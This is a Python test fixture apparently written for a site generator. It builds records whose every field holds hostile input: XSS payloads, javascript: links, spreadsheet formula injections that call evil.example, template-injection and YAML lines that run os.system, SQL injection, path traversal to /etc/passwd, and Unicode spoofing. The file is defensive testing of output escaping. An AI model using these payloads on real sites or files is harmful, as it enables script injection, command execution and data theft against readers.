"""Texts that somebody could write into any field to harm who reads the site, by families, and a root full of them."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import yaml

from generator.types import Field, registry
from tests.complete import DEFAULTS
from tests.school import CAMPAIGN, PRIVATE, PROJECT_PACK, School, branch, private

OUTSIDE = "evil.example"
"""The host that nothing may be asked of."""
_CALL = "alert(document.domain)"
HARM: dict[str, tuple[str, ...]] = {
    "html": (
        f"<script>{_CALL}</script>",
        f"<img src=x onerror={_CALL}>",
        f"<svg/onload={_CALL}>",
        f"<svg><script>{_CALL}</script></svg>",
        f'"><b class=pwned onmouseover={_CALL}>x</b>',
        f"' autofocus onfocus='{_CALL}' x='",
        f"<iframe src=//{OUTSIDE}></iframe>",
        f"<object data=//{OUTSIDE}></object><embed src=//{OUTSIDE}>",
        f"<base href=//{OUTSIDE}/><meta http-equiv=refresh content=0;url=//{OUTSIDE}>",
        f"<link rel=stylesheet href=//{OUTSIDE}/x.css><style>@import '//{OUTSIDE}';</style>",
        f"<form action=//{OUTSIDE}><button class=pwned>x</button></form>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>",
        f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
        f"</title></textarea></script><script>{_CALL}</script>",
        f"<!--><script>{_CALL}</script>--><![CDATA[<script>{_CALL}</script>]]>",
        f"&lt;script&gt;{_CALL}&lt;/script&gt; &#60;script&#62;{_CALL}&#60;/script&#62; &amp;lt;b&amp;gt;",
        f"<details open ontoggle={_CALL}><summary class=pwned>x</summary></details>",
        "<a name=location></a><img name=body><form id=pwned><input name=action>",
        "<!--wuhao:content--><!--wuhao:csp--><!--wuhao:title-->",
    ),
    "links": (
        f"[x](javascript:{_CALL})",
        f"[x](JaVaScRiPt:{_CALL})",
        f"[x]( javascript:{_CALL})",
        f"[x](java\tscript:{_CALL})",
        f"[x](&#x6A;avascript&colon;{_CALL})",
        f"[x](&#106avascript:{_CALL})",
        f"[x](javascript&#0000058{_CALL})",
        f"[x](%6Aavascript:{_CALL})",
        f"[x](java\\\nscript:{_CALL})",
        f"[x](data:text/html,<script>{_CALL}</script>)",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](vbscript:msgbox(1)) [x](VBScript:msgbox(1))",
        f"[x](blob:http://{OUTSIDE}/1) [x](file:///etc/passwd) [x](view-source:x) [x](about:blank)",
        f"[x](//{OUTSIDE}/) [x](\\\\{OUTSIDE}\\x) [x](/etc/passwd) [x](../../../../x)",
        f'[x](http://{OUTSIDE}/"onmouseover="{_CALL})',
        f"[x](http://{OUTSIDE}/'onmouseover='{_CALL}')",
        f"[<img src=x onerror={_CALL}>](http://{OUTSIDE}/)",
        f"<javascript:{_CALL}> <http://{OUTSIDE}> http://{OUTSIDE}/?a=<b class=pwned>",
        f"[x][1] [1]\n\n[1]: javascript:{_CALL}",
        f"[x](x){{onclick={_CALL}}} {{: #pwned .pwned onclick={_CALL} }}",
    ),
    "images": (
        f"![x](http://{OUTSIDE}/x.png)",
        f"![x](//{OUTSIDE}/x.png)",
        f"![x](data:image/svg+xml,<svg/onload={_CALL}>)",
        f"![x](javascript:{_CALL})",
        f'![x" onerror="{_CALL}](x.png)',
        f"![<b class=pwned>](http://{OUTSIDE}/x.png)",
        f"[![x](http://{OUTSIDE}/x.png)](javascript:{_CALL})",
        f"![x][p]\n\n[p]: http://{OUTSIDE}/x.png",
    ),
    "markdown": (
        f"| a | <b class=pwned> |\n|---|---|\n| <img src=x onerror={_CALL}> | \\| |",
        f"```\n</code></pre><script>{_CALL}</script>\n```",
        "`</code><b class=pwned>` **<b class=pwned>** _<i class=pwned>_",
        "# <b class=pwned>\n\n<h1 class=pwned>x</h1>\n\nx\n===",
        f"- <li class=pwned>\n  - [x](javascript:{_CALL})\n1. <script>{_CALL}</script>",
        f"```js\n{_CALL}\n",
        "!!! note\n    <b class=pwned>\n\n[^1]: <b class=pwned>\n\n$$x$$ ==x== :smile: ~~~x~~~",
    ),
    "unseen": (
        "支部‮gpj.exe‬委员会",
        "a⁦b⁩c‏d‎e",
        "zero​width﻿joined‍up",
        "раypal.example 与 рарa 和 аdmin",
        "é̂̃" + "́" * 200,
        "⿰𠅤𡒄 🇨🇳👩‍👩‍👧‍👦 བོད་",
        "ﷺﷺﷺ ﷽ " + "￼",
    ),
    "formulas": (
        '=HYPERLINK("http://evil.example","x")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "＝1+1",
        '=WEBSERVICE("http://evil.example")',
        'a",=1+1,"b',
        "{=1+1}",
    ),
    "formats": (
        "a\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:pwned",
        "a\r\nATTACH:http://evil.example",
        "a;b,c\\n\\;X-EVIL:1",
        "]]></title><entry><title>pwned</title></entry>",
        "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]>&b;",
        '{"a": "\\u003cscript\\u003e"}, "rows": []}',
        '#read("/etc/passwd") #import "@preview/x:1.0.0" $x$ @label <label> #{1+1} \\u{41} // x /* */',
        "</w:t></w:r><w:r><w:t>pwned</w:t></w:r>",
        "_x0041_ _x000D_ \ufffd",
        "%s %d %(a)s {0} {a} {a.__class__} $HOME `id` $(id)",
    ),
    "templates": (
        "{{ 7 * 7 }} {{ config }} {{ self }}",
        "{% include 'secret' %}{% raw %}{# x #}",
        "{{ cycler.__init__.__globals__.os.system('touch reached') }}",
        "<%= 7 * 7 %> ${7*7} #{7*7} {{constructor.constructor('alert(1)')()}}",
        '--8<-- "x" [[include:x]] {!x!}',
    ),
    "names": (
        "__proto__",
        "constructor",
        "../../../etc/passwd",
        "..\\..\\windows",
        "a/b/../c",
        "CON",
        ".htaccess",
        "x'; DROP TABLE kept; --",
        "null",
        "undefined NaN 1e999 0x41 0o17 1_000 ~",
        "!!python/object/apply:os.system [id]",
        "&anchor *alias <<: x",
    ),
    "lengths": (
        "长" * 3000,
        "W" * 5000,
        "9" * 3000,
        "-9e99999 " * 50,
        "a " * 2000,
        "http://evil.example/" + "x" * 3000,
    ),
}
"""What is written, by what it is meant to break. Line ends, where a field has none, are written as blanks."""
CHARACTERS = ("\0", "\x07", "\x0b", "\x1b[31m", "\x7f", "\x85", "\u2028", "\ufffe")
"""What no text may hold: the record is refused and its writer told."""
ALL = [(family, text) for family, texts in HARM.items() for text in texts]
_SHARED = ("title", "place", "chair", "recorder", "agenda", "observers", "resolutions")
_OWN = ("phone", "departments", "item", "key")
"""Fields with a form of their own are tried where reading is; here they keep their record from being read."""


def build(root: Path, count: int) -> list[str]:
    """A root with so many hostile records of all types; gives their ids. Names and lists are hostile too."""
    names = [text.replace("\n", " ")[:60] for _, text in ALL if "\t" not in text and "\r" not in text]
    school = School(
        root,
        branch(name=f"第一<script>{_CALL}</script>党支部", groups=[_group("g1", names[3])], size=5),
        branch("proto", name='"><b class=pwned>党支部'),
        pack=_pack(names),
        config={**CAMPAIGN, **PRIVATE},
    )
    once = ("self_assessment", "mass_survey", "organization_review")  # of a round there is but one
    several = [each for each in registry().types if each in DEFAULTS and each not in once]
    types = [*once, *(several[number % len(several)] for number in range(count - len(once)))]
    made = [_record(school, each, number, ALL[number % len(ALL) :] + ALL) for number, each in enumerate(types)]
    school.write("records/2017/jichu/rectification.yml", yaml.safe_dump(_lists(names), allow_unicode=True))
    return made


def _group(key: str, name: str) -> dict[str, Any]:
    return {"id": key, "name": name, "from": "2015-01-01"}


def _pack(names: list[str]) -> str:
    """The pack with every clause and gloss hostile."""
    read = yaml.safe_load(PROJECT_PACK.read_text("utf-8"))
    for number, rule in enumerate(read["rules"]):
        rule["clause"] = f"{rule['clause']}{names[number % len(names)]}"
        if "gloss" in rule:
            rule["gloss"] = {language: names[(number + 7) % len(names)] for language in rule["gloss"]}
    return yaml.safe_dump(read, allow_unicode=True, sort_keys=False)


def _lists(names: list[str]) -> dict[str, Any]:
    texts = iter(names * 3)
    count = len(names)
    return {
        "问题清单": [
            {"序号": f"P{number}", "标准": 3, "问题表现": next(texts), "来源": "自查", "发现日期": "2017-03-12"}
            for number in range(count)
        ],
        "任务清单": [
            {
                "序号": f"T{number}",
                "对应问题序号": f"P{number}",
                "整改目标": next(texts),
                "整改措施": next(texts),
                "完成时限": "2018-01-10",
            }
            for number in range(count)
        ],
    }


def _record(school: School, type_id: str, number: int, texts: list[tuple[str, str]]) -> str:
    declared = registry().types[type_id]
    unit = "_committee" if declared.folder == "committee" else "proto" if number % 5 == 4 else "jichu"
    day = date(2017, 1, 2) + timedelta(number % 300)
    record = f"2017/{unit}/{day:%m-%d}-{declared.slug}"
    record += f"-{number}" if number >= 2 else ""
    waiting = iter([text for _, text in texts] * 3)
    fields: dict[str, Any] = {}
    known = {**{name: registry().shared[name] for name in _SHARED}, **declared.fields}
    for name, field in known.items():
        if name in _OWN or (value := _hostile(field, waiting)) is None:
            continue
        fields[name] = value
    if "secrecy" in fields:  # refused on what everybody may read
        fields["audience"] = "committee"
    if declared.restricted:
        return private(school, record, {name: fields[name] for name in fields if name in declared.fields})
    body = "\n\n".join(f"{next(waiting)}" for _ in range(4))
    return school.record(record, fields, body=f"{body}\n")


def _hostile(field: Field, texts: Iterator[str]) -> Any:
    """The field with nothing in it that is not hostile; None for what is no text."""
    if field.kind == "text":
        return None if field.choices else _line(next(texts))
    if field.kind == "lines":
        return [_line(next(texts)), _line(next(texts))]
    if field.kind == "entries" and field.fields:
        row = {name: _hostile(each, texts) or _example(each) for name, each in field.fields.items()}
        return [{name: value for name, value in row.items() if value is not None}]
    return None


def _example(field: Field) -> Any:
    return yaml.safe_load(str(field.example)) if field.example else None


def _line(text: str) -> str:
    return " ".join(text.split("\n")).replace("\r", " ")


def refused(root: Path, by: Mapping[str, str]) -> School:
    """A root with one record for each character that no text may hold, by its id."""
    school = School(root)
    for record, text in by.items():
        school.record(record, {"place": f"第一{text}会议室"})
    return school
